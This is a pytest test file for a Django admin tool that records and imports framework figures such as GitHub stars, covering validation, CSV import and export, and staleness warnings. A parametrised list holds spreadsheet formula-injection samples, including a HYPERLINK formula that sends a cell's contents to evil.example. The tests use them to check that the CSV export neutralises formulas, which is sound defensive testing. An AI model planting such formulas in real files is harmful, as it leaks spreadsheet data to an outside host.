"""Recording figures: a round at once, CSV import with a full preview, CSV export, staleness."""

import csv
import io
from datetime import date, timedelta
from decimal import Decimal

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from reversion.models import Version

from frameworks import services
from frameworks.models import Measurement
from tests.factories import make_article, make_framework, make_measurement, make_metric, make_section

pytestmark = pytest.mark.django_db

RECORD = "admin:frameworks_measurement_record"
IMPORT = "admin:frameworks_measurement_import"


@pytest.fixture
def catalogue():
    flask, django = make_framework(name="Flask", slug="flask"), make_framework(name="Django", slug="django")
    stars = make_metric(name="GitHub stars", slug="stars")
    forks = make_metric(name="Forks", slug="forks")
    make_measurement(flask, stars, 45761, date(2019, 8, 1))
    make_measurement(django, stars, 44000, date(2019, 8, 1))
    return flask, django, stars, forks


def _round(client, metrics, values, **extra):
    url = reverse(RECORD) + "?" + "&".join(f"metric={m.pk}" for m in metrics)
    data = {"as_of": "2024-05-01"}
    for m in metrics:
        data.update({f"source-{m.pk}-name": "GitHub", f"source-{m.pk}-url": "https://github.com/pallets/flask"})
    data.update({f"v-{fw.pk}-{m.pk}": v for (fw, m), v in values.items()})
    data.update(extra)
    return client.post(url, data)


def test_figures_screen_shows_current_value_and_date(editor_client, catalogue):
    flask, django, stars, forks = catalogue
    page = editor_client.get(reverse(RECORD) + f"?metric={stars.pk}").content.decode()
    assert "45,761" in page and "2019-08-01" in page and "stale" in page
    assert f'name="v-{flask.pk}-{stars.pk}"' in page and f'name="v-{django.pk}-{stars.pk}"' in page


def test_recording_a_round_saves_every_value_with_its_author(editor_client, editor, catalogue):
    flask, django, stars, forks = catalogue
    response = _round(editor_client, [stars, forks], {(flask, stars): "50000", (django, stars): "60000", (flask, forks): "13000"})
    assert response.status_code == 302
    new = Measurement.objects.filter(as_of=date(2024, 5, 1))
    assert new.count() == 3
    assert {m.recorded_by for m in new} == {editor}
    assert all(m.recorded_at for m in new)
    assert flask.measurements.current().get(metric=stars).value == Decimal("50000")
    revision = Version.objects.get_for_object(new.first()).get().revision
    assert revision.user == editor and "round of 3" in revision.get_comment()


def test_a_negative_value_saves_nothing(editor_client, catalogue):
    flask, django, stars, _ = catalogue
    response = _round(editor_client, [stars], {(flask, stars): "50000", (django, stars): "-5"})
    assert response.status_code == 200
    assert "A figure cannot be negative." in response.content.decode()
    assert not Measurement.objects.filter(as_of=date(2024, 5, 1)).exists()
    assert 'value="50000"' in response.content.decode()  # the editor's input stays


def test_one_invalid_row_saves_no_row(editor_client, catalogue):
    flask, django, stars, _ = catalogue
    make_measurement(django, stars, 60000, date(2024, 5, 1))  # already recorded for that day
    response = _round(editor_client, [stars], {(flask, stars): "50000", (django, stars): "61000"})
    assert response.status_code == 200
    assert "already has a value for this metric on this date" in response.content.decode()
    assert not flask.measurements.filter(as_of=date(2024, 5, 1)).exists()


def test_a_drop_of_more_than_half_asks_for_confirmation(editor_client, catalogue):
    flask, _, stars, _ = catalogue
    response = _round(editor_client, [stars], {(flask, stars): "4576"})
    assert response.status_code == 200
    page = response.content.decode()
    assert "Falls by more than half" in page and "from 45,761 to 4,576" in page
    assert not flask.measurements.filter(as_of=date(2024, 5, 1)).exists()

    response = _round(editor_client, [stars], {(flask, stars): "4576"}, confirm_drops="on")
    assert response.status_code == 302
    assert flask.measurements.get(as_of=date(2024, 5, 1)).value == Decimal("4576")


def test_a_future_date_is_refused(editor_client, catalogue):
    flask, _, stars, _ = catalogue
    tomorrow = (timezone.localdate() + timedelta(days=1)).isoformat()
    response = _round(editor_client, [stars], {(flask, stars): "50000"}, as_of=tomorrow)
    assert response.status_code == 200
    assert "is in the future" in response.content.decode()
    assert Measurement.objects.count() == 2


def test_a_round_whose_source_is_only_invisible_characters_is_refused(editor_client, catalogue):
    flask, _, stars, _ = catalogue
    response = _round(editor_client, [stars], {(flask, stars): "50000"}, **{f"source-{stars.pk}-name": "\x01\u200b\u202e"})
    assert response.status_code == 200
    assert response.context["form"].errors[f"source-{stars.pk}-name"] == ["Name the source of these GitHub stars figures."]
    assert Measurement.objects.count() == 2


def _csv(rows):
    out = io.StringIO()
    csv.writer(out).writerows([("framework", "metric", "value", "as_of", "source_name", "source_url", "note"), *rows])
    return out.getvalue()


def _upload(client, text):
    return client.post(reverse(IMPORT), {"file": SimpleUploadedFile("figures.csv", text.encode()), "preview": "1"})


def test_csv_with_one_bad_row_saves_nothing_and_names_row_and_column(editor_client, catalogue):
    text = _csv([
        ("flask", "stars", "51000", "2024-06-01", "GitHub", "https://github.com/pallets/flask", ""),
        ("django", "stars", "lots", "2024-06-01", "GitHub", "https://github.com/django/django", ""),
        ("flask", "forks", "-3", "2024-06-01", "GitHub", "https://github.com/pallets/flask", ""),
        ("nope", "stars", "1", "2024-06-01", "GitHub", "not a url", ""),
    ])
    response = _upload(editor_client, text)
    assert response.status_code == 200
    errors = {(e.row, e.column) for e in response.context["parsed"].errors}
    assert errors == {(3, "value"), (4, "value"), (5, "framework"), (5, "source_url")}
    assert "Nothing was saved" in response.content.decode()
    # Even a forged "save" of the same file saves nothing.
    response = editor_client.post(reverse(IMPORT), {"content": text, "save": "1"})
    assert response.status_code == 200
    assert not Measurement.objects.filter(as_of=date(2024, 6, 1)).exists()


def test_csv_duplicate_of_a_saved_figure_names_the_row(editor_client, catalogue):
    text = _csv([("flask", "stars", "45761", "2019-08-01", "GitHub", "https://github.com/pallets/flask", "")])
    errors = _upload(editor_client, text).context["parsed"].errors
    assert [e.row for e in errors] == [2]
    assert "already has a value" in errors[0].message


def test_csv_preview_then_save(editor_client, editor, catalogue):
    flask, django, stars, forks = catalogue
    text = _csv([
        ("flask", "stars", "52000", "2024-06-01", "GitHub", "https://github.com/pallets/flask", "June"),
        ("django", "forks", "30000", "2024-06-01", "GitHub", "https://github.com/django/django", ""),
    ])
    preview = _upload(editor_client, text)
    assert preview.status_code == 200
    assert "2 figures ready to save" in preview.content.decode()
    assert not Measurement.objects.filter(as_of=date(2024, 6, 1)).exists()

    saved = editor_client.post(reverse(IMPORT), {"content": preview.context["content"], "save": "1"})
    assert saved.status_code == 302
    new = Measurement.objects.filter(as_of=date(2024, 6, 1))
    assert {(m.framework.slug, m.metric.slug, m.value, m.recorded_by) for m in new} == {
        ("flask", "stars", Decimal("52000"), editor), ("django", "forks", Decimal("30000"), editor)
    }


def test_csv_export_of_a_framework_history_round_trips(editor_client, catalogue):
    flask, _, stars, _ = catalogue
    make_measurement(flask, stars, 60000, date(2021, 1, 1))
    response = editor_client.get(reverse("admin:frameworks_framework_export", args=[flask.pk]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="flask-figures.csv"' in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1][:4] == ["flask", "stars", "45761", "2019-08-01"]
    assert rows[2][:4] == ["flask", "stars", "60000", "2021-01-01"]
    # Re-importing the export clashes with what is saved, row by row.
    errors = _upload(editor_client, response.content.decode()).context["parsed"].errors
    assert [e.row for e in errors] == [2, 3]


FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "'=already quoted",
    "'plain apostrophe",
]


@pytest.mark.parametrize("note", FORMULAS)
def test_csv_export_neutralises_formulas_and_import_restores_them(editor_client, catalogue, note):
    flask, _, stars, _ = catalogue
    make_measurement(flask, stars, 60000, date(2021, 1, 1), source_name=note, note=note)
    exported = editor_client.get(reverse("admin:frameworks_framework_export", args=[flask.pk])).content.decode()
    for row in list(csv.reader(io.StringIO(exported)))[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    Measurement.objects.filter(framework=flask).delete()
    response = editor_client.post(reverse(IMPORT), {"content": exported, "save": "1"})
    assert response.status_code == 302
    restored = Measurement.objects.get(framework=flask, as_of=date(2021, 1, 1))
    assert (restored.note, restored.source_name) == (note, note)


def test_csv_columns_in_any_order_and_short_rows_get_row_errors(editor_client, catalogue):
    """Once answered 500: a short row left None where the parser expected text."""
    text = "metric,framework,value,as_of,source_name,source_url,note\ngithub-stars\nstars,flask,1,2024-01-01\n"
    errors = _upload(editor_client, text).context["parsed"].errors
    assert {(e.row, e.column) for e in errors} >= {(2, "framework"), (2, "value"), (2, "as_of"), (3, "source_name")}


def test_csv_a_file_the_csv_module_cannot_read_is_a_message(editor_client, catalogue):
    text = _csv([("flask", "stars", "1", "2024-01-01", "GitHub", "https://github.com/pallets/flask", "x" * 200_000)])
    response = _upload(editor_client, text)
    assert response.status_code == 200
    assert "not a CSV file we can read" in response.context["parsed"].errors[0].message


def test_csv_text_is_normalised_before_it_is_validated(editor_client, catalogue):
    text = _csv([("flask", "stars", "1", "2024-01-01", "\x01\x02\u200b", "https://github.com/pallets/flask", "")])
    errors = _upload(editor_client, text).context["parsed"].errors
    assert [(e.row, e.column) for e in errors] == [(2, "source_name")]


def test_admin_index_counts_stale_figures(editor_client, catalogue, settings):
    flask, django, stars, forks = catalogue
    make_measurement(flask, forks, 1, timezone.localdate())
    page = editor_client.get(reverse("admin:index")).content.decode()
    assert "2 figures are older than 180 days" in page
    settings.STALE_FIGURE_DAYS = 100000
    page = editor_client.get(reverse("admin:index")).content.decode()
    assert "No current figure is older than 100000 days" in page


def test_stale_figures_are_flagged_in_admin_lists(editor_client, catalogue):
    flask, _, stars, _ = catalogue
    make_measurement(flask, stars, 50000, timezone.localdate())
    frameworks = editor_client.get(reverse("admin:frameworks_framework_changelist")).content.decode()
    assert "2019-08-01, stale" in frameworks
    listing = editor_client.get(reverse("admin:frameworks_measurement_changelist") + "?age=stale")
    assert {m.as_of for m in listing.context["cl"].result_list} == {date(2019, 8, 1)}


def test_guide_tells_readers_how_old_its_figures_are(client, catalogue):
    flask, django, stars, _ = catalogue
    article = make_article(frameworks=[flask, django])
    make_section(article, kind="table")
    page = client.get(article.get_absolute_url()).content.decode()
    assert "The oldest figure in this guide was measured" in page
    assert "more than 180 days old" in page


def test_a_clash_at_save_time_saves_nothing(catalogue, monkeypatch):
    flask, django, stars, _ = catalogue
    rows = [Measurement(framework=fw, metric=stars, value=1, as_of=date(2024, 7, 1), source_name="GitHub",
                        source_url="https://github.com/x/y") for fw in (flask, django)]
    monkeypatch.setattr(services, "check_figures", lambda measurements: {})
    make_measurement(django, stars, 5, date(2024, 7, 1))
    with pytest.raises(ValidationError, match="at the same moment"):
        services.record_round(rows)
    assert not flask.measurements.filter(as_of=date(2024, 7, 1)).exists()
